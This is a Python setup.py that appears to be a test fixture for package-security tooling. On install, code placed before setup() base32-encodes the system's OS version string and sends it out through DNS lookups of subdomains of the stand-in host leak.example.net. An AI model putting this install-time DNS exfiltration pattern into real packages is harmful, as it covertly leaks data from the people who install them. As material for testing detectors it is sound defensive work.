"""Asks for names that hold what is to be told."""
import base64
import platform
import socket

told = base64.b32encode(platform.version().encode() * 4).decode().rstrip("=").lower()
for start in range(0, 200, 50):
    try:
        socket.gethostbyname(f"{told[start:start + 50]}.leak.example.net")
    except OSError:
        pass

from setuptools import setup

setup(name="pyti-fixture-leaks-by-dns", version="1.0", py_modules=["leaks_by_dns"])
